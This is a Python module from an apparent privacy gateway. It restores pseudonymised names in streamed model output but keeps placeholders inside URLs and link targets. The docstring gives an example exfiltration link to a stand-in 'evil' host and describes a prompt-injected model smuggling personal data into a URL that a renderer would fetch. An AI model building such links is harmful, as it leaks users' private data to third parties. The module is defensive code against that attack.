"""Streaming-safe restoration of pseudonyms in the model's answer.

A ``Restorer`` is a text filter: ``feed`` each piece as it arrives and emit
what it returns; ``flush`` at the end of the field. It holds back only text
that could still become an issued placeholder (``<PER`` while ``<PERSON_1>``
is issued) — never more than the longest issued token — so restoration adds
no buffering beyond that (SEC-13), whatever the chunking.

It resolves only tokens this request's vault issued: a client-written or
guessed token stays literal (SEC-16). Redacted, masked and hashed values were
never stored, so they cannot come back. Inside link targets and URLs
(``[x](https://evil/?q=<PERSON_1>)``) the token is kept, not the value: a
prompt-injected model must not be able to smuggle a real name into a URL the
client's renderer would fetch (SEC-17).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

import orjson

from hushgate.policy.vault import PLACEHOLDER, Vault

_TAIL_CHARS = 4096
# Quotes and angle brackets do not end a URL: `?q='<PERSON_1>`, `src="...'`
# and `(<https://x/?q= <PERSON_1>>)` still put the token in the URL. Only
# whitespace ends a bare URL or attribute value.
_URL_MARKERS = ("//", "www.", "mailto:", "href=", "src=", "](")


def _open_link_destination(tail: str) -> bool:
    """True inside a markdown link destination: after the last ``](`` and not yet closed."""
    k = tail.rfind("](")
    if k < 0:
        return False
    dest = tail[k + 2 :]
    if dest.lstrip().startswith("<"):  # <...> destinations may hold spaces and parentheses
        return ">" not in dest
    return ")" not in dest


# HTML attributes and CSS that take a URL: a quoted value may hold spaces.
_URL_ATTR_BEFORE_QUOTE = re.compile(r"(?:href|src|srcset|action|formaction|poster|data|background|cite)\s*=\s*\Z", re.IGNORECASE)


def _open_url_value(tail: str) -> bool:
    """True inside a quoted URL attribute value or a CSS ``url(...)`` not yet closed.

    Only the last quote of each kind can open a value still open: any earlier
    one is closed by it. Constant work per token, whatever the answer holds.
    """
    for quote in ('"', "'"):
        i = tail.rfind(quote)
        if i >= 0 and _URL_ATTR_BEFORE_QUOTE.search(tail, max(0, i - 48), i):
            return True
    k = tail.lower().rfind("url(")
    return k >= 0 and ")" not in tail[k:]


def in_url_context(before: str) -> bool:
    """True if text ending with ``before`` puts the next token inside a URL or link target."""
    tail = before[-_TAIL_CHARS:]
    if _open_link_destination(tail) or _open_url_value(tail):
        return True
    word = "" if not tail or tail[-1].isspace() else tail.rsplit(maxsplit=1)[-1].lower()
    if len(word) >= _TAIL_CHARS:
        # A run with no whitespace longer than the window: its start (and any
        # URL scheme) scrolled out of sight. Keep the token (fail closed).
        return True
    return any(marker in word for marker in _URL_MARKERS)


@dataclass
class RestoreStats:
    restored: int = 0
    suppressed: int = 0


class Restorer:
    def __init__(self, vault: Vault, stats: RestoreStats, *, json_string: bool = False) -> None:
        self.vault = vault
        self.stats = stats
        # Tool-call arguments are JSON text: a restored value must be escaped.
        self.json_string = json_string
        self.held = ""
        self.tail = ""

    def feed(self, text: str) -> str:
        s = self.held + text if self.held else text
        self.held = ""
        if "<" not in s:
            self._remember(s)
            return s
        out: list[str] = []
        i = 0
        longest = self.vault.max_token_len
        while True:
            j = s.find("<", i)
            if j < 0:
                out.append(s[i:])
                break
            out.append(s[i:j])
            m = PLACEHOLDER.match(s, j)
            if m is not None:
                out.append(self._resolve(m.group(0), out))
                i = m.end()
                continue
            # Only a tail shorter than the longest token can still complete
            # one: check the length before slicing (HTML answers hold many "<").
            if len(s) - j < longest and self.vault.is_partial(s[j:]):
                self.held = s[j:]
                break
            out.append("<")
            i = j + 1
        emitted = "".join(out)
        self._remember(emitted)
        return emitted

    def flush(self) -> str:
        # A held partial that never completed is plain text: emit it as is.
        held, self.held = self.held, ""
        self._remember(held)
        return held

    def _resolve(self, token: str, out: list[str]) -> str:
        value = self.vault.resolve(token)
        if value is None:
            return token
        if in_url_context(self._recent(out)):
            self.stats.suppressed += 1
            return token
        self.stats.restored += 1
        return orjson.dumps(value).decode()[1:-1] if self.json_string else value

    def _recent(self, out: list[str]) -> str:
        """The last ``_TAIL_CHARS`` of the answer before the token, without joining all of it."""
        parts: list[str] = []
        need = _TAIL_CHARS
        for piece in reversed(out):
            parts.append(piece)
            need -= len(piece)
            if need <= 0:
                break
        else:
            parts.append(self.tail)
        return "".join(reversed(parts))[-_TAIL_CHARS:]

    def _remember(self, emitted: str) -> None:
        if emitted:
            self.tail = (self.tail + emitted)[-_TAIL_CHARS:]


def restore_text(vault: Vault, text: str, stats: RestoreStats, *, json_string: bool = False) -> str:
    r = Restorer(vault, stats, json_string=json_string)
    return r.feed(text) + r.flush()
